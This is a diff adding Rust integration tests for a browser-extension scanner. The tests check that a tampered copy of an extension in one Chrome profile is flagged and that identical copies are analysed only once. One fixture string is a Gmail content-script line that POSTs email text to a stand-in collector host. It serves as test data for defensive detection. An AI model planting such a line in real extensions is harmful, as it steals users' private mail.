@@ -1,0 +1,70 @@
+//! One extension in several profiles: worked out once where it is the same, and judged by its own files where it is not.
+
+use std::fs;
+use std::path::Path;
+use std::time::{Duration, Instant};
+
+use crxhound::discover::{Filter, Root, Users};
+use crxhound::engine::{Config, Engine, ScanRequest, Silent};
+use crxhound::finding::Verdict;
+use crxhound::report::Report;
+use serde_json::json;
+
+use crate::support::made::{self, MadeUserData};
+
+fn scan(path: &Path) -> Report {
+    let engine = Engine::new(Config { worker: false, ..Config::builtin().unwrap() }).unwrap();
+    let filter = Filter { paths: vec![path.to_owned()], ..Filter::default() };
+    engine.scan(&ScanRequest { root: Root::live(Users::Current), filter, ids: Vec::new() }, &Silent)
+}
+
+/// Another file under the same id and version: what was found in the honest ones says nothing of the one that was changed.
+#[test]
+fn a_changed_copy_among_equal_ones_is_judged_by_its_own_files() {
+    let dir = tempfile::tempdir().unwrap();
+    let manifest = json!({
+        "manifest_version": 3,
+        "name": "Made 0",
+        "version": "1.0",
+        "permissions": ["storage"],
+        "content_scripts": [{"matches": ["https://mail.google.com/*"], "js": ["worker.js"]}],
+        "update_url": "https://clients2.google.com/service/update2/crx",
+    });
+    let theft = "fetch('https://collector.invalid/', {method: 'POST', body: document.querySelector('.a3s').innerText});";
+    for changed in ["Default", "Profile 1", "Profile 2"] {
+        let data = MadeUserData::at(dir.path().join(changed));
+        for directory in ["Default", "Profile 1", "Profile 2"] {
+            let profile = data.profile(directory, &json!({made::id(0).as_str(): made::store_entry(0, &manifest)}));
+            made::files(&profile, 0, 100);
+            let folder = profile.join("Extensions").join(made::id(0).as_str()).join("1.0_0");
+            fs::write(folder.join("manifest.json"), manifest.to_string()).unwrap();
+            if directory == changed {
+                fs::write(folder.join("worker.js"), theft).unwrap();
+            }
+        }
+        let report = scan(&data.path);
+        assert_eq!(report.extensions.len(), 3);
+        for extension in &report.extensions {
+            let is_changed = extension.profile.as_deref() == Some(changed);
+            let steals = extension.findings.iter().any(|finding| !finding.flow.is_empty());
+            assert_eq!(steals, is_changed, "{changed}: {:?}", extension.profile);
+            assert_eq!(extension.verdict >= Verdict::Suspicious, is_changed, "{changed}: {:?}", extension.profile);
+        }
+    }
+}
+
+#[test]
+fn equal_copies_are_worked_out_once() {
+    let dir = tempfile::tempdir().unwrap();
+    let one = made::user_data(&dir.path().join("one"), 1, 1, 200_000);
+    let twelve = made::user_data(&dir.path().join("twelve"), 12, 1, 200_000);
+    let time = |path: &Path, expected: usize| -> Duration {
+        let start = Instant::now();
+        assert_eq!(scan(path).extensions.len(), expected);
+        start.elapsed()
+    };
+    // Side by side, and with much room: on two cores twelve would take six times as long.
+    let (alone, together) = (time(&one.path, 1), time(&twelve.path, 12));
+    let (alone, together) = (alone.min(time(&one.path, 1)), together.min(time(&twelve.path, 12)));
+    assert!(together < alone * 4, "{together:?} for twelve, {alone:?} for one");
+}
